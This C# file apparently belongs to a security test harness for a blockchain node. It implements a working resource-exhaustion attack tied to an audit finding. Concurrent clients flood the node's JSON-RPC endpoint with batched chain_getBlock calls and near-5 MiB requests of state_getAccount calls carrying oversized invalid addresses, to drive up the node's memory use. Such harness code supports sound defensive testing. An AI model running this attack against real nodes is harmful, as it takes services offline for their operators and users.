using System.Text;

namespace Agora.Testing.Attacks;

/// <summary>
/// Finding 4: make the node build far more than it receives. While <see cref="BlockFiller"/> makes blocks large,
/// several clients each send a small batch of <c>chain_getBlock</c> calls for the latest block and read the answers
/// as they stream, and others send requests near the size limit (a batch of calls with very long parameters), all at
/// once and over and over. A node without a response budget or bounded concurrency for heavy requests holds all
/// those answers in memory at the same time.
/// </summary>
public sealed class AmplificationAttack : Attack
{
    /// <summary>Clients sending <c>chain_getBlock</c> batches concurrently.</summary>
    public int BlockClients { get; init; } = 8;

    /// <summary><c>chain_getBlock</c> calls per batch.</summary>
    public int CallsPerBatch { get; init; } = 50;

    /// <summary>Clients sending large requests concurrently.</summary>
    public int LargeRequestClients { get; init; } = 16;

    /// <summary>Bytes of each large request (the node's default request limit is 5 MiB).</summary>
    public int LargeRequestBytes { get; init; } = 5 * 1000 * 1000;

    /// <summary>The block filler that makes blocks large.</summary>
    public BlockFiller Filler { get; init; } = new();

    /// <inheritdoc />
    public override string Name => "amplification";

    /// <inheritdoc />
    public override async Task<AttackReport> RunAsync(AttackTarget target, CancellationToken stop)
    {
        ArgumentNullException.ThrowIfNull(target);
        var filling = Filler.RunAsync(target, stop);
        long requestBytes = 0, responseBytes = 0, requests = 0, failures = 0;
        var notes = new List<string>();
        var large = LargeRequest();

        // One client: sends what step sends, over and over, counting bytes both ways.
        async Task ClientAsync(Func<RawRpc, Task<(long Sent, long Read)>> step)
        {
            using var rpc = new RawRpc(target.RpcUrl, TimeSpan.FromSeconds(60));
            while (!stop.IsCancellationRequested)
            {
                try
                {
                    var (sent, read) = await step(rpc);
                    Interlocked.Add(ref requestBytes, sent);
                    Interlocked.Add(ref responseBytes, read);
                    Interlocked.Increment(ref requests);
                }
                catch (RawRpcException e)
                {
                    Note(e.Message);
                    Interlocked.Increment(ref failures);
                    await PauseAsync(TimeSpan.FromMilliseconds(100), stop);
                }
                catch (OperationCanceledException)
                {
                    break;
                }
            }
        }

        async Task<(long, long)> LatestBlockBatchAsync(RawRpc rpc)
        {
            var best = (await rpc.CallAsync("chain_getHeader", [], stop)).GetProperty("hash").GetString()!;
            var body = BlockBatch(best);
            return (body.Length, await rpc.PostCountingAsync(body, stop));
        }

        async Task<(long, long)> LargeRequestAsync(RawRpc rpc) => (large.Length, await rpc.PostCountingAsync(large, stop));

        void Note(string message)
        {
            lock (notes)
            {
                if (notes.Count < 3)
                {
                    notes.Add(message);
                }
            }
        }

        var clients = Enumerable.Range(0, BlockClients).Select(_ => ClientAsync(LatestBlockBatchAsync))
            .Concat(Enumerable.Range(0, LargeRequestClients).Select(_ => ClientAsync(LargeRequestAsync)))
            .ToArray();
        await Task.WhenAll(clients);
        var filled = await filling;
        return new AttackReport(Name, new Dictionary<string, long>
        {
            ["requests"] = requests,
            ["request_bytes"] = requestBytes,
            ["response_bytes"] = responseBytes,
            ["failures"] = failures,
            ["filler_transfers"] = filled,
        }, notes);
    }

    private byte[] BlockBatch(string blockHash)
    {
        var text = new StringBuilder("[");
        for (var i = 0; i < CallsPerBatch; i++)
        {
            text.Append(i == 0 ? "" : ",").Append("{\"jsonrpc\":\"2.0\",\"id\":").Append(i)
                .Append(",\"method\":\"chain_getBlock\",\"params\":[\"").Append(blockHash).Append("\"]}");
        }

        return Encoding.UTF8.GetBytes(text.Append(']').ToString());
    }

    /// <summary>A batch of <c>state_getAccount</c> calls with long invalid addresses, about <see cref="LargeRequestBytes"/> in all.</summary>
    private byte[] LargeRequest()
    {
        const int AddressChars = 5_000;
        var call = $"{{\"jsonrpc\":\"2.0\",\"id\":0,\"method\":\"state_getAccount\",\"params\":[\"{new string('5', AddressChars)}\"]}}";
        var count = Math.Max(1, Math.Min(999, LargeRequestBytes / (call.Length + 1)));
        var text = new StringBuilder("[");
        for (var i = 0; i < count; i++)
        {
            text.Append(i == 0 ? "" : ",").Append(call);
        }

        return Encoding.UTF8.GetBytes(text.Append(']').ToString());
    }
}
